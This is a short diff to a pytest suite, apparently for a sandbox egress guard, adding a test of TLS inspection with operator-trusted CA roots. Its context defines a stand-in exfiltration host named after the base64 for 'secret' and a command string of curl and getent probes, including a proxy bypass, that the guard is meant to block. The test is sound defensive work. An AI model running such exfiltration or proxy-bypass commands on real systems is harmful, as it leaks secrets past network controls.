@@ -31,6 +31,13 @@ def test_a_blind_tunnel(world, operator, runtime):
     assert [r["path"] for r in world.seen("allowed.example.org", session.since)] == ["/x"], "a blind tunnel shows the host's own certificate"
 
 
+@pytest.mark.parametrize("trusted", [True, False])
+def test_the_guard_trusts_the_roots_of_the_operators_machine(world, operator, trusted):
+    session = operator.start("curl -sS -m 20 https://inspected.example.org/hello", env={"SSL_CERT_FILE": world.ca} if trusted else {},
+                             egress={"allow": [{"host": "inspected.example.org", "inspect": True}], "extra_ca": []})
+    assert ("hello from inspected.example.org" in session.out) == trusted, session.explain()
+
+
 FORBIDDEN_NAME = "c2VjcmV0.exfil.example.net"
 ASK_FOR_IT = "curl -sS -m 10 https://{0}/; curl -sS -m 10 http://{0}/; getent hosts {0}; curl --noproxy '*' -sS -m 10 https://{0}/; true".format(FORBIDDEN_NAME)
 
